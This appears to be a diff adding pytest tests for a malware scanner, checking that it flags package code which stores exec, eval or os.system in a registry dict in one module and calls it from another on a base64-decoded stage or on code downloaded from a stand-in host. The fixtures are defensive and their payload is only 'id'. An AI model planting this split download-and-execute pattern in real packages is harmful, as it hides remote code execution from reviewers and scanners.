@@ -1,0 +1,106 @@
+"""Sink containers filled in one module, called in another (caplet._scan._package_registries).
+
+recall12's last open row, a known miss of issue 16's larger held-out set: ``registry.py``
+fills a module-level dict with ``exec`` (through its own ``register`` function, by an
+item store, or in the literal), and another module of the package imports the dict and
+calls its entry on a decoded or downloaded stage. Each file alone is clean; the
+collector joins them once the whole tree is seen (fails on main at 33365dd).
+"""
+
+from __future__ import annotations
+
+import base64
+from pathlib import Path
+
+import pytest
+
+from caplet._findings import Severity
+from caplet._scan._model import ScanMode
+from caplet._scan._scanner import scan_tree
+from tests._scan.scankit import write_tree
+
+_STAGE = base64.b64encode(b"import os; os.system('id')").decode()
+_SETUP = 'from setuptools import setup\nsetup(name="pluginz", packages=["pluginz"])\n'
+
+REGISTRIES = {
+    "registered": (
+        "HANDLERS = {}\n\ndef register(name, fn):\n    HANDLERS[name] = fn\n\n"
+        "register('run', exec)\n"
+    ),
+    "item-store": "import os\nHANDLERS = {}\nHANDLERS['run'] = os.system\n",
+    "literal": "HANDLERS = {'run': eval, 'show': print}\n",
+}
+CALLERS = {
+    "relative-index": (
+        "import base64\nfrom .registry import HANDLERS\n\n"
+        f"HANDLERS['run'](base64.b64decode({_STAGE!r}).decode())\n"
+    ),
+    "absolute-get": (
+        "import base64\nfrom pluginz.registry import HANDLERS as H\n\n"
+        f"H.get('run')(base64.b64decode({_STAGE!r}).decode())\n"
+    ),
+    "downloaded": (
+        "import urllib.request\nfrom .registry import HANDLERS\n\n"
+        "HANDLERS['run'](urllib.request.urlopen('https://k.recall14.example/s').read().decode())\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN], ids=lambda m: m.value)
+@pytest.mark.parametrize("registry", REGISTRIES.values(), ids=REGISTRIES.keys())
+@pytest.mark.parametrize("caller", CALLERS.values(), ids=CALLERS.keys())
+def test_a_sink_registry_of_another_module_called_on_a_stage_is_a_threat(
+    tmp_path: Path, registry: str, caller: str, mode: ScanMode
+) -> None:
+    write_tree(
+        tmp_path,
+        {"setup.py": _SETUP, "pluginz/registry.py": registry, "pluginz/__init__.py": caller},
+    )
+    report = scan_tree(tmp_path, mode=mode)
+    danger = {
+        (f.rule_id, f.file)
+        for f in report.findings
+        if f.severity is Severity.DANGER and f.rule_id in {"CPL-THR-001", "CPL-THR-002"}
+    }
+    assert danger & {("CPL-THR-001", "pluginz/__init__.py"), ("CPL-THR-002", "pluginz/__init__.py")}
+
+
+@pytest.mark.parametrize(
+    ("registry", "caller"),
+    [
+        # a registry of the package's own functions called on decoded JSON
+        (
+            "def create(p):\n    return p\n\nHANDLERS = {'create': create, 'show': print}\n",
+            "import base64, json\nfrom .registry import HANDLERS\n\n"
+            "msg = json.loads(base64.b64decode(b'e30='))\nHANDLERS[msg['op']](msg)\n",
+        ),
+        # a registry of exec called on a literal
+        (
+            "HANDLERS = {'run': exec}\n",
+            "from .registry import HANDLERS\n\nHANDLERS['run']('x = 1')\n",
+        ),
+        # a name of a registry of sinks, imported from a module that holds no such registry
+        (
+            "HANDLERS = {'run': exec}\n",
+            "import base64\nfrom .other import HANDLERS\n\n"
+            "HANDLERS['show'](base64.b64decode(b'aGk='))\n",
+        ),
+    ],
+    ids=["own-functions", "literal-code", "same-name-elsewhere"],
+)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN], ids=lambda m: m.value)
+def test_a_registry_that_runs_nothing_decoded_stays_clean(
+    tmp_path: Path, registry: str, caller: str, mode: ScanMode
+) -> None:
+    write_tree(
+        tmp_path,
+        {
+            "setup.py": _SETUP,
+            "pluginz/registry.py": registry,
+            "pluginz/other.py": "HANDLERS = {'show': print}\n",
+            "pluginz/__init__.py": caller,
+        },
+    )
+    report = scan_tree(tmp_path, mode=mode)
+    threats = {f.rule_id for f in report.findings if f.rule_id.startswith("CPL-THR-00")}
+    assert threats == set()
